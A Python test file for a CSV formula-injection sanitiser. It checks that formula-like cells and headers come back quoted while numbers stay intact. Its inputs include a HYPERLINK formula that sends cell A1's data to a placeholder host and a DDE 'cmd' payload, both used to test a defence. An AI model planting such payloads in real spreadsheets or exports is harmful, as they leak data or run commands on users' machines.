"""Formula injection: text cells a spreadsheet would run come back quoted; numbers stay numbers."""

from __future__ import annotations

import pandas as pd

from pipelines.spreadsheet_safe import neutralise, write_csv

ATTACK = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def test_formula_like_text_is_quoted_and_numbers_are_not():
    assert neutralise(ATTACK) == "'" + ATTACK
    for text in ("+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1"):
        assert neutralise(text) == "'" + text
    for value in ("-5", "+1.5", "-0,25", "1e-3", "plain", "", -5, 2.5, None):
        assert neutralise(value) == value


def test_a_formula_injection_string_round_trips_neutralised(tmp_path):
    frame = pd.DataFrame({"answer": [ATTACK, "ok", None, "-7"], "n": [-1, 2, 3, 4], "=col": ["a", "b", "c", "d"]})
    path = tmp_path / "out.csv"
    write_csv(frame, path)
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(back.columns) == ["answer", "n", "'=col"]
    assert back["answer"].tolist() == ["'" + ATTACK, "ok", "", "-7"]
    assert back["n"].tolist() == ["-1", "2", "3", "4"]
    assert frame["answer"].iloc[0] == ATTACK  # the caller's frame is not changed
